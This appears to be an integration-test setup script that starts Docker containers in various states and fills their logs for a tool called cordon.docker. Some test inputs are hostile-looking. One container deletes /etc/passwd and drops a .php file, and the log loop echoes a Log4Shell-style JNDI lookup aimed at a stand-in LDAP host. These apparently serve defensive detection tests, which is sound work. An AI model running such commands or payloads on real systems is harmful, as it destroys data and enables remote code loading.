#!/bin/sh
# Copyright (c) The cordon.docker authors
# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

docker unpause it-paused >/dev/null 2>&1 || true
docker ps -aq --filter name=^it- | xargs -r docker rm -f >/dev/null 2>&1 || true
docker network create it-net >/dev/null 2>&1 || true
docker run -d --name it-run --label role=test -p 127.0.0.1:9081:80 -p 9082:53/udp \
  --network it-net --network-alias web -v it-data:/data -v /etc/hostname:/h:ro --tmpfs /scratch:ro,size=1m \
  --restart on-failure:3 --entrypoint /bin/sh acme/base:1 \
  -c 'mkdir -p /srv/new; echo 1 >/srv/new/a.php; rm -rf /etc/passwd; sleep 9999 & sleep infinity' >/dev/null
docker run -d --name it-paused acme/base:1 sh -c 'echo before; while :; do :; done' >/dev/null
docker run --name it-exited acme/base:1 sh -c 'echo bye; exit 3' >/dev/null || true
docker create --name it-created acme/base:1 >/dev/null
docker run -d --name it-busy acme/base:1 sh -c 'while :; do :; done' >/dev/null
docker run -d -t --name it-tty acme/base:1 sh -c 'echo one; echo jndi two; sleep infinity' >/dev/null
docker run -d --name it-none --log-driver none acme/base:1 sh -c 'echo x; sleep infinity' >/dev/null
# As much as makes the drivers rotate and compress, with what json-file escapes and what is no UTF-8.
for driver in json-file local; do
  docker run -d --name "it-$driver" --log-driver "$driver" --log-opt max-size=20k --log-opt max-file=4 \
    --log-opt compress=true acme/base:1 sh -c '
      i=0; while [ $i -lt 900 ]; do echo "line $i with some <tag> & \"quotes\" to fill the file"; i=$((i+1)); done
      printf "tab\there \377 byte\n"; echo "\${jndi:ldap://192.0.2.66/a}"; echo oops >&2; sleep infinity' >/dev/null
done
sleep 1.5
docker pause it-paused >/dev/null
